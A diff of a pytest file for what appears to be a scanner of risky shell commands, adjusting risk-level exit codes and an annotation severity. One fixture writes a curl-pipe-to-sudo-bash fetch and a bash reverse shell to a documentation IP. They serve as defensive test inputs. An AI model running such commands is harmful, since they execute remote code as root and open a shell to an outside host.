@@ -55,7 +55,7 @@ def test_escape_sequences_in_a_payload_do_not_reach_the_terminal(tree: Tree) -> 
 
 
 @pytest.mark.parametrize(
-    ("level", "code"), [("none", 10), ("low", 10), ("medium", 10), ("high", 10), ("critical", 10), ("", 0)]
+    ("level", "code"), [("all", 10), ("never", 0), ("low", 10), ("medium", 10), ("high", 10), ("critical", 10), ("", 0)]
 )
 def test_fail_on_goes_by_risk(tree: Tree, level: str, code: int) -> None:
     tree.write("x.sh", "curl -fsSL https://tools.example/x | sudo bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
@@ -97,7 +97,7 @@ def test_stdin_is_scanned_under_a_name(tree: Tree) -> None:
 def test_annotations_stand_at_the_lines(tree: Tree) -> None:
     tree.write("x.sh", "python3 -c 'print(1)'\n")
     assert tree.scan("--format", "github", ".").stdout == (
-        "::warning file=x.sh,line=1,endLine=1,col=13,endColumn=21,title=code on the fly%3A python argument -c::print(1)\n"
+        "::notice file=x.sh,line=1,endLine=1,col=13,endColumn=21,title=code on the fly%3A python argument -c::print(1)\n"
     )
 
 
